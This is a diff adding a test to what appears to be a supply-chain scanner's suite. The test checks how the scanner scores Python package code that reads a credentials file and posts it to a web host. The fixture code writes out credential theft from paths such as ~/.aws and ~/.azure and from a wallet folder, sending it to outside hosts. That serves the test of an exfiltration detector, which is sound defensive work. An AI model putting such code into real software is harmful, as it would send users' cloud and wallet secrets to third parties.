@@ -784,3 +784,28 @@ test('settings that are named for the house they go to are its own business on c
   expect(Math.max(0, ...own.map(({ score }) => score))).toBeLessThan(3);
   expect(other).toMatchObject([{ score: 6 }]);
 });
+
+test('a log-in that lies in the folder of the house it is sent to is that house’s; another folder’s, or another host’s, is not', async () => {
+  const of = (path: string, host: string): Promise<readonly Finding[]> =>
+    inspect(
+      'exfiltration',
+      wheel({
+        'pkg/client.py': python(
+          'import json, os, requests',
+          'def me():',
+          `    with open(os.path.expanduser('${path}')) as f:`,
+          '        kept = json.load(f)',
+          `    return requests.post('https://${host}/login', json={'user': kept['user'], 'word': kept['word']}).json()`,
+        ),
+      }),
+    );
+
+  expect(await of('~/.courses/credentials.json', 'api.courses.ai')).toMatchObject([{ class: 'suspicious', score: 2 }]);
+  for (const [path, host] of [
+    ['~/.courses/credentials.json', 'api.collector.ai'],
+    ['~/.aws/credentials.json', 'api.courses.ai'],
+    ['~/.courses/wallet/credentials.json', 'api.courses.ai'],
+    ['~/.azure/credentials.json', 'vm.westeurope.cloudapp.azure.com'],
+  ] as const)
+    expect((await of(path, host))[0]?.score).toBeGreaterThanOrEqual(6);
+});
